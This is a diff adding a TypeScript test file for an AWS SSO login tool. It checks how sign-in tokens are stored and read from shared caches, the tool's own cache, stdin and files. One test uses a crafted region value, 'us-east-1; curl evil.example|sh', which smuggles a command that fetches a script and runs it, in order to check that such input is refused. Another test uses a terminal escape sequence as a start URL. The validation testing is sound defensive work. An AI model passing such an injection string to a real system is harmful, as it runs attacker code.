@@ -1,0 +1,168 @@
+import { describe, expect, test } from "bun:test";
+import type { PortalChoice } from "../../../src/identity/portal/portal-choice.ts";
+import { openTokenPlace } from "../../../src/identity/portal/token-place.ts";
+import { importToken, ownTokenPath, portals } from "../../../src/store/own-token-cache.ts";
+import { failureOf } from "../../support/failure.ts";
+import { fakeSystem } from "../../support/fake-system.ts";
+import { memoryFiles } from "../../support/memory-files.ts";
+
+const startUrl = "https://d-1234567890.awsapps.com/start";
+const folder = "/home/me/.aws-login";
+const token = { accessToken: "t", expiresAt: "2030-01-31T13:00:00Z", startUrl, region: "eu-west-1" };
+const cli = {
+  kind: "cli",
+  startUrl,
+  region: "eu-west-1",
+  sessionName: "corp",
+  scopes: ["a"],
+  loginOption: "--profile p",
+} as const satisfies PortalChoice;
+
+interface Setup {
+  readonly files?: ReturnType<typeof memoryFiles>;
+  readonly home?: string | undefined;
+  readonly stdin?: string;
+  readonly nrt?: boolean;
+}
+
+function open(choice: PortalChoice, setup: Setup = {}) {
+  const { files = memoryFiles(), home = "/home/me", stdin = "", nrt = false } = setup;
+  const system = fakeSystem({ instead: { ...files, readStdin: async () => stdin } });
+  return { system, place: openTokenPlace(choice, { system, home, nrt }) };
+}
+
+describe("a sign-in shared with the AWS CLI", () => {
+  test("openTokenPlace() asks for the scopes of the session, and names the command that signs in", async () => {
+    const place = await open(cli).place;
+    expect(place).toMatchObject({
+      startUrl,
+      region: "eu-west-1",
+      scopes: ["a"],
+      legacy: false,
+      given: false,
+    });
+    expect(place.signInHint).toBe("sign in with: aws-login login --profile p");
+    expect(place.store.sharedName).toStartWith("/home/me/.aws/sso/cache/");
+  });
+
+  test("openTokenPlace() asks for no scopes in a legacy sign-in, as the AWS CLI", async () => {
+    expect(await open({ ...cli, sessionName: undefined, scopes: undefined }).place).toMatchObject({
+      scopes: [],
+      legacy: true,
+    });
+  });
+
+  test("openTokenPlace() keeps a client without scopes out of the shared file", async () => {
+    const files = memoryFiles();
+    const { scopes, store } = await open(cli, { files, nrt: true }).place;
+    await store.writeRegistration("device", { clientId: "id", clientSecret: "s", expiresAt: "x" });
+    expect([scopes, files.files.size, await store.readRegistration("device")]).toEqual([[], 0, undefined]);
+  });
+});
+
+describe("the own cache", () => {
+  test("openTokenPlace() takes the portal used last, and the region of its token", async () => {
+    const files = memoryFiles();
+    await importToken(files, folder, "https://other.awsapps.com/start", token, {});
+    await importToken(files, folder, startUrl, token, {});
+    const { place } = open({ kind: "own", startUrl: undefined, region: undefined }, { files });
+    expect(await place).toMatchObject({ startUrl, region: "eu-west-1", given: false });
+    expect((await place).signInHint).toBe(
+      `sign in with: aws-login login --start-url ${startUrl} --sso-region eu-west-1`,
+    );
+    expect(files.log).toContain(`narrow ${folder}`);
+  });
+
+  test("openTokenPlace() remembers the portal of a new sign-in", async () => {
+    const files = memoryFiles();
+    await (await open({ kind: "own", startUrl, region: undefined }, { files }).place).signedIn();
+    expect(await portals(files, folder)).toEqual([startUrl]);
+  });
+
+  test("openTokenPlace() needs a person when no portal was ever used", async () => {
+    const failure = await failureOf(
+      () => open({ kind: "own", startUrl: undefined, region: undefined }).place,
+    );
+    expect(failure.kind).toBe("sign-in-needed");
+    expect(failure.hints.join()).toContain("importcache");
+  });
+
+  test("openTokenPlace() refuses another region than the stored one", async () => {
+    const files = memoryFiles();
+    await importToken(files, folder, startUrl, token, {});
+    const { place } = open({ kind: "own", startUrl, region: "us-east-1" }, { files });
+    expect((await failureOf(() => place)).kind).toBe("usage");
+    const same = open({ kind: "own", startUrl, region: "eu-west-1" }, { files });
+    expect((await same.place).region).toBe("eu-west-1");
+  });
+});
+
+describe("a token that was given", () => {
+  test("openTokenPlace() reads it from stdin when told to, without its line end", async () => {
+    const choice = { kind: "token", token: "-", startUrl: undefined, region: "eu-west-1" } as const;
+    const place = await open(choice, { stdin: "t\n" }).place;
+    expect((await place.store.readToken())?.accessToken).toBe("t");
+    expect([place.given, place.store.sharedName]).toEqual([true, undefined]);
+    expect((await failureOf(() => open(choice, { stdin: "\n" }).place)).message).toContain(
+      "no token on stdin",
+    );
+  });
+
+  test("openTokenPlace() believes the file about its portal, and warns when its refresh token is spent", async () => {
+    const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, refreshToken: "r1" }) });
+    const choice = { kind: "file", path: "file:///t.json", startUrl: undefined, region: undefined } as const;
+    const { system, place } = open(choice, { files });
+    const { store, region, startUrl: own } = await place;
+    expect([region, own]).toEqual(["eu-west-1", startUrl]);
+    await store.writeToken({ ...token, refreshToken: "r1" });
+    expect(system.stderrLines).toEqual([]);
+    await store.writeToken({ ...token, refreshToken: "r2" });
+    expect(system.stderrLines).toHaveLength(1);
+    expect(system.stderrLines[0]).toStartWith(
+      "aws-login: warning: the refresh token in /t.json is spent now",
+    );
+    expect(files.log).toEqual([]);
+  });
+
+  test("openTokenPlace() does not show a start URL of a file that is none", async () => {
+    const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, startUrl: "\u001b[2J" }) });
+    const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
+    expect((await open(choice, { files }).place).name).toBe("/t.json");
+  });
+});
+
+describe("a region that is none", () => {
+  const crafted = { ...token, region: "us-east-1; curl evil.example|sh" };
+  const message = (path: string) => `cannot use the region of the ${path}: `;
+
+  test("openTokenPlace() refuses it in a token file, which it names", async () => {
+    const files = memoryFiles({ "/t.json": JSON.stringify(crafted) });
+    const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
+    const failure = await failureOf(() => open(choice, { files }).place);
+    expect(failure.message).toStartWith(message("token in /t.json"));
+  });
+
+  test("openTokenPlace() refuses it in the own cache, and names the file", async () => {
+    const files = memoryFiles();
+    await importToken(files, folder, startUrl, crafted, {});
+    const failure = await failureOf(
+      () => open({ kind: "own", startUrl, region: undefined }, { files }).place,
+    );
+    expect(failure.message).toStartWith(message(`sign-in in ${ownTokenPath(folder, startUrl)}`));
+  });
+});
+
+test("openTokenPlace() keeps nothing of a sign-in that is not to be kept", async () => {
+  const place = await open({ kind: "unkept", startUrl, region: "eu-west-1" }).place;
+  expect(await place.store.readToken()).toBeUndefined();
+  expect(place.store.sharedName).toBeUndefined();
+  expect(place.signInHint).toContain("--use-cache");
+});
+
+test("openTokenPlace() says so where there is no home directory", async () => {
+  const system = fakeSystem({ instead: memoryFiles() });
+  for (const choice of [cli, { kind: "own", startUrl, region: undefined } as const]) {
+    const failure = await failureOf(() => openTokenPlace(choice, { system, home: undefined, nrt: false }));
+    expect(failure.hints).toEqual(["set HOME"]);
+  }
+});
